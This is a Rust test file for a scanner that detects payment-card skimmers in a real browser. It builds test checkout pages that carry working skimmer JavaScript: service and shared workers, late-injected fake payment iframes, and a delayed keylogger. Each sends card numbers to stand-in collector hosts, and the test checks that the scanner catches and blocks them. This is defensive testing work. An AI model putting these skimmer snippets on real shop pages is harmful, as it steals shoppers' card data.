//! The browser pass against skimmers that run where a page-only pass does not look, in real
//! Chromium on loopback: a service worker and a shared worker that send the card from the
//! worker (their scripts named only in JSON fetched at run time, so static discovery cannot
//! see them), and fake payment iframes that appear late — one injected when the card field is
//! focused, one drawn by a timer after the page has settled — and a keylogger from a slow
//! server, which the visit must wait for before typing. Each must be caught with the
//! right host, the workers' scripts must be `runtime` rows, and no collector may receive the
//! canary.
//!
//! The shop is served from `http://127.0.0.1:PORT` (a secure context, which service workers
//! need, without TLS); every other host is pinned with `--resolve` to a recording server.

mod browser_support;
mod common;

use browser_support::{Recorder, canary_numbers, chromium_available, html, js, json, slow};
use serde_json::Value;

/// A card form as a small shop renders it, then `extra`.
fn checkout(title: &str, extra: &str) -> String {
    format!(
        r#"<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>{title} – Harbour Supply Co.</title></head>
<body><h1>Checkout</h1>
<form id="payment" action="/api/order" method="post">
  <label for="cc-number">Card number</label><input id="cc-number" name="cc-number" autocomplete="cc-number" inputmode="numeric">
  <label for="cc-exp">Expiry (MM/YY)</label><input id="cc-exp" name="cc-exp" autocomplete="cc-exp">
  <label for="cc-csc">Security code</label><input id="cc-csc" name="cc-csc" autocomplete="cc-csc">
  <button type="submit">Pay $48.00</button>
</form>
<script>document.getElementById('payment').addEventListener('submit', function (e) {{ e.preventDefault(); }});</script>
{extra}
</body></html>"#
    )
}

/// A payment form inside a frame, whose own script sends the number when it changes.
fn fake_frame(collector: &str) -> String {
    format!(
        "<!doctype html><html><body><form id=\"f\"><input name=\"cardnumber\" autocomplete=\"cc-number\"><input name=\"exp-date\" autocomplete=\"cc-exp\"><input name=\"cvc\" autocomplete=\"cc-csc\"><button type=\"submit\">Pay</button></form><script>document.querySelector('[name=cardnumber]').addEventListener('change',function(){{fetch('{collector}',{{method:'POST',mode:'no-cors',body:'n='+this.value}})}});document.getElementById('f').addEventListener('submit',function(e){{e.preventDefault()}});</script></body></html>"
    )
}

/// The service worker: sends what the page posts to it, base64-encoded.
fn service_worker(collector: &str) -> String {
    format!(
        "self.addEventListener('install',function(){{self.skipWaiting()}});self.addEventListener('message',function(e){{fetch('{collector}?d='+btoa(e.data),{{mode:'no-cors'}})}});"
    )
}

/// The shared worker: sends what any page posts to it, as JSON.
fn shared_worker(collector: &str) -> String {
    format!(
        "onconnect=function(c){{var p=c.ports[0];p.onmessage=function(e){{fetch('{collector}',{{method:'POST',mode:'no-cors',body:JSON.stringify({{n:e.data}})}})}}}};"
    )
}

const EVIL_HOSTS: &[&str] = &[
    "sw.cache-metrics.test",
    "sh.sync-metrics.test",
    "pay.fake-frames.test",
    "collect.fake-frames.test",
    "late.fake-frames.test",
    "tags.slow-cdn.test",
    "k.slow-cdn.test",
];

fn build(site: &Recorder, evil: &Recorder) {
    let e = |host: &str, path: &str| evil.url(host, path);
    // A service worker registered from a URL in a config fetched at run time; the page hands
    // it the number, the worker sends it.
    site.set("/sw-config.json", json(r#"{"worker": "/sw-cache.js"}"#));
    site.set(
        "/sw-cache.js",
        js(service_worker(&e("sw.cache-metrics.test", "/c"))),
    );
    site.set(
        "/checkout/sw",
        html(checkout(
            "Service worker",
            "<script>fetch('/sw-config.json').then(function(r){return r.json()}).then(function(c){navigator.serviceWorker.register(c.worker)});document.getElementById('cc-number').addEventListener('change',function(){var v=this.value;navigator.serviceWorker.ready.then(function(r){r.active.postMessage(v)})});</script>",
        )),
    );
    // The same with a shared worker.
    site.set(
        "/shared-config.json",
        json(r#"{"worker": "/shared-sync.js"}"#),
    );
    site.set(
        "/shared-sync.js",
        js(shared_worker(&e("sh.sync-metrics.test", "/s"))),
    );
    site.set(
        "/checkout/shared",
        html(checkout(
            "Shared worker",
            "<script>var port;fetch('/shared-config.json').then(function(r){return r.json()}).then(function(c){var w=new SharedWorker(c.worker);port=w.port;port.start()});document.getElementById('cc-number').addEventListener('change',function(){if(port)port.postMessage(this.value)});</script>",
        )),
    );
    // A fake payment frame injected (from the attacker's host) when the card field is focused.
    evil.set(
        "/frame.html",
        html(fake_frame(&e("collect.fake-frames.test", "/f"))),
    );
    site.set(
        "/checkout/focusframe",
        html(checkout(
            "Focus frame",
            &format!(
                "<script>var done=false;document.getElementById('cc-number').addEventListener('focus',function(){{if(done)return;done=true;document.body.insertAdjacentHTML('beforeend','<iframe src=\"{}\" title=\"Secure payment\" width=\"400\" height=\"160\"></iframe>')}});</script>",
                e("pay.fake-frames.test", "/frame.html")
            ),
        )),
    );
    // A fake payment frame drawn by a timer, long after the page has settled.
    // (`</` escaped: the frame's own `</script>` must not end the page's script.)
    let late = serde_json::to_string(&fake_frame(&e("late.fake-frames.test", "/l")))
        .unwrap()
        .replace("</", "<\\/");
    site.set(
        "/checkout/lateframe",
        html(checkout(
            "Late frame",
            &format!(
                "<script>setTimeout(function(){{var f=document.createElement('iframe');f.title='Secure payment';f.width=400;f.height=160;f.srcdoc={late};document.body.appendChild(f)}},2500);</script>"
            ),
        )),
    );
}

/// A keylogger served by a slow server, loaded once the page has loaded: the visit must wait
/// for the response (not just for a quiet moment after the request) before typing.
fn slow_keylogger(site: &Recorder, evil: &Recorder) {
    evil.set(
        "/k.js",
        slow(
            js(format!(
                "document.getElementById('cc-number').addEventListener('keyup',function(){{(new Image).src='{}?v='+this.value}});",
                evil.url("k.slow-cdn.test", "/k")
            )),
            std::time::Duration::from_millis(1500),
        ),
    );
    site.set(
        "/checkout/slowscript",
        html(checkout(
            "Slow script",
            &format!(
                "<script>window.addEventListener('load',function(){{var s=document.createElement('script');s.src='{}';document.head.appendChild(s)}});</script>",
                evil.url("tags.slow-cdn.test", "/k.js")
            ),
        )),
    );
}

fn findings_for<'a>(report: &'a Value, page_suffix: &str) -> Vec<&'a Value> {
    report["findings"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter(|f| {
                    f["rule"] == "exfiltration-observed"
                        && f["page"].as_str().is_some_and(|p| p.ends_with(page_suffix))
                })
                .collect()
        })
        .unwrap_or_default()
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest as _;
    sha2::Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

#[test]
fn worker_and_late_frame_skimmers_are_caught_and_nothing_leaves() {
    if !chromium_available("worker_and_late_frame_skimmers_are_caught_and_nothing_leaves") {
        return;
    }
    let site = browser_support::start("127.0.0.1");
    let evil = browser_support::start("127.0.0.1");
    build(&site, &evil);
    slow_keylogger(&site, &evil);
    let pages = ["sw", "shared", "focusframe", "lateframe", "slowscript"];
    let mut args: Vec<String> = vec![
        "--browser".into(),
        "--allow-private".into(),
        "--depth".into(),
        "0".into(),
        "--concurrency".into(),
        "4".into(),
        "--browser-wait".into(),
        "4".into(),
    ];
    for h in EVIL_HOSTS {
        args.push("--resolve".into());
        args.push(evil.resolve(h));
    }
    for p in pages {
        args.push(site.url("127.0.0.1", &format!("/checkout/{p}")));
    }
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let (code, report, stderr) = common::scan_json(&argv);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    assert_eq!(report["errors"], serde_json::json!([]), "{report:#}");

    // Each skimmer is caught, at its collector, from inside the worker or the late frame.
    for (page, host, how) in [
        // Paused in the service worker's own session and failed there.
        (
            "sw",
            "sw.cache-metrics.test",
            "blocked (carried the canary)",
        ),
        // Watched in the shared worker's session (its requests cannot be paused once it
        // runs) and kept local by the egress proxy.
        ("shared", "sh.sync-metrics.test", "observed"),
        (
            "focusframe",
            "collect.fake-frames.test",
            "blocked (carried the canary)",
        ),
        (
            "lateframe",
            "late.fake-frames.test",
            "blocked (carried the canary)",
        ),
        (
            "slowscript",
            "k.slow-cdn.test",
            "blocked (carried the canary)",
        ),
    ] {
        let f = findings_for(&report, &format!("/checkout/{page}"));
        assert_eq!(f.len(), 1, "{page}: {report:#}");
        assert_eq!(
            f[0]["hosts"],
            serde_json::json!([host]),
            "{page}: {:#}",
            f[0]
        );
        let ev = f[0]["evidence"].as_str().unwrap_or("");
        assert!(ev.contains(how), "{page}: {ev}");
    }
    // The shared worker's request is attributed to the worker's script.
    let shared = findings_for(&report, "/checkout/shared");
    assert_eq!(
        shared[0]["script"],
        site.url("127.0.0.1", "/shared-sync.js"),
        "{:#}",
        shared[0]
    );

    // The late frames were typed into: the one injected on focus (out of process, from the
    // attacker's host, loaded before the card existed) and the one a timer drew.
    let visit = |page: &str| -> Value {
        report["browser"]
            .as_array()
            .unwrap()
            .iter()
            .find(|v| v["page"].as_str().is_some_and(|p| p.ends_with(page)))
            .cloned()
            .unwrap_or(Value::Null)
    };
    let typed = visit("/checkout/focusframe")["fields_typed"].to_string();
    assert!(
        typed.contains("(iframe http://pay.fake-frames.test"),
        "{typed}"
    );
    let typed = visit("/checkout/lateframe")["fields_typed"].to_string();
    assert!(typed.contains("(iframe about:srcdoc)"), "{typed}");
    for p in pages {
        let v = visit(&format!("/checkout/{p}"));
        assert_eq!(v["complete"], true, "{p}: {v:#}");
        assert_eq!(v["pressed_pay"], true, "{p}: {v:#}");
    }

    // The workers' scripts, which static discovery never saw, are runtime rows with their
    // URL and hash.
    let scripts = report["scripts"].as_array().unwrap();
    for (page, path, source) in [
        (
            "/checkout/sw",
            "/sw-cache.js",
            service_worker(&evil.url("sw.cache-metrics.test", "/c")),
        ),
        (
            "/checkout/shared",
            "/shared-sync.js",
            shared_worker(&evil.url("sh.sync-metrics.test", "/s")),
        ),
    ] {
        let url = site.url("127.0.0.1", path);
        let rows: Vec<&Value> = scripts
            .iter()
            .filter(|s| s["url"] == url.as_str())
            .collect();
        assert!(
            rows.iter().any(|s| s["kind"] == "runtime"
                && s["page"].as_str().is_some_and(|p| p.ends_with(page))
                && s["sha256"] == sha256_hex(source.as_bytes())),
            "{path}: {rows:#?}"
        );
        assert!(
            !rows.iter().any(|s| s["kind"] != "runtime"),
            "static discovery saw {path}: {rows:#?}"
        );
    }

    // Nothing reached a collector.
    for r in evil.received() {
        assert!(
            canary_numbers(&r.raw).is_empty(),
            "{} {} received the canary: {}",
            r.host,
            r.path,
            String::from_utf8_lossy(&r.raw)
        );
    }
    assert_eq!(site.hits("/api/order"), 0, "the order was placed");
}
